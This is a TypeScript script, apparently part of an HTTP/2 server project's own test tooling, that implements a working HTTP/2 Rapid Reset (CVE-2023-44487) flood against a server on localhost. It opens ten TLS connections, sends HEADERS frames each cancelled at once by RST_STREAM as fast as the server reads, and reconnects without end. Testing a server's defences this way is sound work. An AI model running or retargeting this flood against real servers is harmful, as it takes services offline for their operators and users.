import { connect as connectPlainly } from 'node:net'
import { connect } from 'node:tls'
import { flags, frameTypes } from '@masthead/server/src/edge/http2/frames/protocol.ts'
import { frame, openingWith } from '../http2-frames.ts'
import { HpackWriter, literal } from '../mixed/hpack-writer.ts'

/**
 * Rapid reset (CVE-2023-44487), from one address: requests that are taken back at once, as fast as the server reads, and
 * a new connection whenever it ends one. A process of its own, which runs until it is killed.
 */
const [port, host = '', path = ''] = process.argv.slice(2)
const [connections, pairsPerWrite, pauseMs] = [10, 200, 10]
const cancel = Buffer.from([0, 0, 0, 8])

const hpack = new HpackWriter()
const request = () => {
  const fixed = hpack.write([
    [':method', 'GET'],
    [':scheme', 'https'],
    [':authority', host],
  ])
  return Buffer.concat([fixed, literal(':path', path)])
}
const pair = (stream: number, block: Buffer) =>
  Buffer.concat([
    frame(frameTypes.headers, flags.endStream | flags.endHeaders, stream, block),
    frame(frameTypes.rstStream, 0, stream, cancel),
  ])
const opening = Buffer.concat([
  openingWith({ streamWindow: 65_535, connectionWindow: 6_291_456, headerTableSize: 4096 }),
  pair(1, request()),
])
/** From the second request on, all are the same but for the number of the stream. */
const laterPair = pair(0, request())
const resetStart = laterPair.length - 13

function attack(): void {
  const socket = connect({
    socket: connectPlainly({ host: '127.0.0.1', port: Number(port), localAddress: '127.0.0.9' }),
    servername: host,
    rejectUnauthorized: false,
    ALPNProtocols: ['h2'],
  })
  let stream = 3
  const write = () => {
    const bytes = Buffer.concat(Array(pairsPerWrite).fill(laterPair))
    for (let at = 0; at < bytes.length; at += laterPair.length, stream += 2) {
      bytes.writeUInt32BE(stream, at + 5)
      bytes.writeUInt32BE(stream, at + resetStart + 5)
    }
    if (!socket.destroyed) socket.write(bytes, (error) => error ?? setImmediate(write))
  }
  socket.on('secureConnect', () => {
    socket.write(opening)
    write()
  })
  socket.resume()
  socket.on('error', () => {})
  socket.on('close', () => setTimeout(attack, pauseMs))
}

for (let n = 0; n < connections; n++) attack()
